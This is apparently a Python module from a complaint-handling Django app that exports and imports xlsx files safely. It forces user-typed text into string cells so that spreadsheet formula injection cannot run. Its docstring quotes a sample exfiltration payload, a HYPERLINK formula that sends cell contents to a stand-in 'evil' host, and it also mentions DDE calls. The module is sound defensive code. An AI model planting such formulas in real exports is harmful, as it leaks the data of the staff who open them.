"""The one way complaintdesk writes .xlsx files: every export (worklists, the complaint ledger,
whatever comes next) goes through XlsxSheet; no other module imports openpyxl
(tests/test_xlsx_exports.py fails if one does).

Why: a complaint's title or description is typed by anyone, an anonymous portal visitor too.
openpyxl turns a string that starts with "=" into a live formula (and "#N/A" into an error
value), so `=HYPERLINK("http://evil/?"&A2, "details")` or a DDE call in a title would run in
the spreadsheet of the staff who open the export. Here every string is written as a string
cell (data_type "s", an inline string in the file): Excel and LibreOffice show it as text and
never evaluate it, whatever it starts with. We do NOT prefix such text with an apostrophe (the
CSV advice): in an xlsx file the apostrophe would become part of the value, the export would no
longer say what the customer wrote, and a string cell needs no escape. Instead a cell whose text
starts like a formula also gets the "quote prefix" style, which is what Excel itself records when
a user types '=…: the text stays text even when someone edits the cell and presses Enter.

Numbers, dates and times stay typed (sorting and filtering in the sheet work); aware datetimes
are written as local wall-clock time (Excel has no time zones)."""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any

from django.utils import timezone

# What spreadsheet programs read as the start of a formula when text is typed or re-parsed;
# the full-width forms too (an East Asian IME types them).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# Excel refuses a cell longer than this (the file opens only after a "repair").
MAX_CELL_CHARS = 32_767
# Characters XML 1.0 cannot carry (openpyxl would raise on them): shown as U+FFFD instead.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_BAD_TITLE = re.compile(r"[\\*?:/\[\]]")
_TYPED = (bool, int, float, Decimal, dt.date, dt.time, dt.timedelta)


def xlsx_text(value: Any) -> str:
    """The text a cell shows for a value that is not a number or a date."""
    text = _ILLEGAL.sub("\ufffd", str(value))
    if len(text) > MAX_CELL_CHARS:
        text = text[: MAX_CELL_CHARS - 1] + "…"
    return text


def sheet_title(title: str) -> str:
    # Worksheet names: at most 31 characters, none of \ * ? : / [ ].
    cleaned = _BAD_TITLE.sub("_", xlsx_text(title)).strip("'")[:31]
    return cleaned or "Sheet"


class XlsxSheet:
    """A workbook with one worksheet, written row by row (openpyxl's write-only mode: rows go
    straight to the file, not into a model of the whole sheet).

        sheet = XlsxSheet(title, widths=(20, 40))
        sheet.header(["Number", "Title"])
        for ticket in tickets:
            sheet.row([ticket.number, ticket.title])
        sheet.save(out)
    """

    def __init__(self, title: str, *, widths: Iterable[float] = ()):
        # openpyxl is imported here, not at module level: only an export pays for loading it.
        from openpyxl import Workbook
        from openpyxl.cell import WriteOnlyCell
        from openpyxl.cell.cell import ERROR_CODES
        from openpyxl.styles import Font
        from openpyxl.utils import get_column_letter

        self._new_cell = WriteOnlyCell
        self._error_codes = frozenset(ERROR_CODES)
        self._bold = Font(bold=True)
        self._column_letter = get_column_letter
        self._book = Workbook(write_only=True)
        self._titles: set[str] = set()
        self.add_sheet(title, widths=widths)

    def add_sheet(self, title: str, *, widths: Iterable[float] = ()) -> None:
        """Start another worksheet: the rows that follow go to it (a report writes one sheet
        per table). Every cell still goes through `cell()`, so the protection is the same."""
        name = base = sheet_title(title)
        n = 2
        while name.lower() in self._titles:  # sheet names are unique, case-insensitively
            suffix = f" ({n})"
            name, n = base[: 31 - len(suffix)] + suffix, n + 1
        self._titles.add(name.lower())
        self._ws = self._book.create_sheet(title=name)
        for index, width in enumerate(widths, start=1):
            if width:
                self._ws.column_dimensions[self._column_letter(index)].width = width
        self.rows = 0  # rows appended so far to this sheet, header and notes included

    def cell(self, value: Any, *, bold: bool = False):
        """What to append for one value: numbers, dates and None keep their type; everything
        else is text. Plain text is handed to openpyxl as it is (it makes any string a string
        cell unless it starts with "=" or is an error code such as "#N/A", and a cell object
        per value would cost twice the time of a 10,000-row export); text that looks like a
        formula or an error gets a cell of its own, forced to be a string."""
        if isinstance(value, dt.datetime) and timezone.is_aware(value):
            value = timezone.localtime(value).replace(tzinfo=None)
        if value is None or isinstance(value, _TYPED):
            if not bold:
                return value
            cell = self._new_cell(self._ws, value=value)
        else:
            value = xlsx_text(value)
            formula_like = value.startswith(FORMULA_START)
            if not (bold or formula_like or value in self._error_codes):
                return value
            cell = self._new_cell(self._ws, value=value)
            # openpyxl has just guessed "f" (formula) for "=…" and "e" (error) for "#N/A":
            # it is text, whatever it looks like.
            cell.data_type = "s"
            if formula_like:
                cell.quotePrefix = True
        if bold:
            cell.font = self._bold
        return cell

    def header(self, titles: Iterable[Any]) -> None:
        self._ws.append([self.cell(t, bold=True) for t in titles])
        self.rows += 1

    def row(self, values: Iterable[Any]) -> None:
        self._ws.append([self.cell(v) for v in values])
        self.rows += 1

    def note(self, text: str, *, gap: bool = True) -> None:
        """A line of explanation under the rows (e.g. that the export was cut)."""
        if gap:
            self._ws.append([])
            self.rows += 1
        self.row([text])

    def save(self, out: IO[bytes]) -> None:
        self._book.save(out)


# --- Reading ---------------------------------------------------------------------------------

class XlsxFormula:
    """A cell that holds a formula: `cached` is the value the spreadsheet program last
    computed and saved with it (None when the file was never recalculated, e.g. written by a
    script). The caller decides whether to take the cached value or refuse the cell."""

    __slots__ = ("formula", "cached")

    def __init__(self, formula: str, cached: Any):
        self.formula = formula
        self.cached = cached

    def __repr__(self):
        return f"XlsxFormula({self.formula!r}, cached={self.cached!r})"


class XlsxUnreadable(Exception):
    """The file is not an xlsx workbook openpyxl can read (corrupt zip, an old .xls, ...)."""


def xlsx_rows(source: IO[bytes] | str, *, max_columns: int = 200):
    """Stream the first worksheet's rows as (row_number, values): openpyxl's read-only mode, so
    memory stays flat whatever the number of rows. Row numbers are the sheet's own (1-based,
    what a user sees in Excel); rows with no value at all are left out. A formula cell comes as
    an XlsxFormula with its cached value.

    Why two readers in step: openpyxl gives a formula cell either its formula (data_only=False)
    or its cached value (data_only=True), never both; reading the same stream twice, row by
    row, keeps both without loading the sheet. Dates come as datetime (openpyxl applies the
    cell's number format); a number formatted as a date is already converted."""
    from openpyxl import load_workbook

    handles = []

    def open_book(data_only: bool):
        try:
            # closed in the finally below
            handle = open(source, "rb") if isinstance(source, str) else _reopen(source)  # noqa: SIM115
            handles.append(handle)
            return load_workbook(handle, read_only=True, data_only=data_only)
        except Exception as exc:  # openpyxl raises many kinds for a broken file
            for h in handles:
                h.close()
            raise XlsxUnreadable(str(exc)) from exc

    formulas_book = open_book(False)
    try:
        values_book = open_book(True)
    except XlsxUnreadable:
        formulas_book.close()
        raise
    try:
        if not formulas_book.worksheets:
            return
        ws_f = formulas_book.worksheets[0]
        ws_v = values_book.worksheets[0]
        # Files written by some tools carry a wrong <dimension>: read what is there instead.
        ws_f.reset_dimensions()
        ws_v.reset_dimensions()
        rows_v = ws_v.iter_rows(values_only=True, max_col=max_columns)
        for cells in ws_f.iter_rows(max_col=max_columns):
            values = next(rows_v, ())
            out = []
            number = None
            for index, cell in enumerate(cells):
                if number is None and getattr(cell, "row", None) is not None:
                    number = cell.row
                value = cell.value
                if getattr(cell, "data_type", None) == "f":
                    cached = values[index] if index < len(values) else None
                    value = XlsxFormula(str(value), cached)
                out.append(value)
            while out and (out[-1] is None or out[-1] == ""):
                out.pop()
            if not out or all(v is None or (isinstance(v, str) and not v.strip()) for v in out):
                continue
            yield number, out
    except XlsxUnreadable:
        raise
    except Exception as exc:
        raise XlsxUnreadable(str(exc)) from exc
    finally:
        formulas_book.close()
        values_book.close()
        for h in handles:
            h.close()


def _reopen(stream: IO[bytes]):
    # Two readers need two file positions: a second handle on a named file, else a copy of
    # the (already size-checked) bytes.
    import io

    name = getattr(stream, "name", None)
    if isinstance(name, str):
        try:
            return open(name, "rb")  # noqa: SIM115 - closed by the caller
        except OSError:
            pass
    stream.seek(0)
    return io.BytesIO(stream.read())
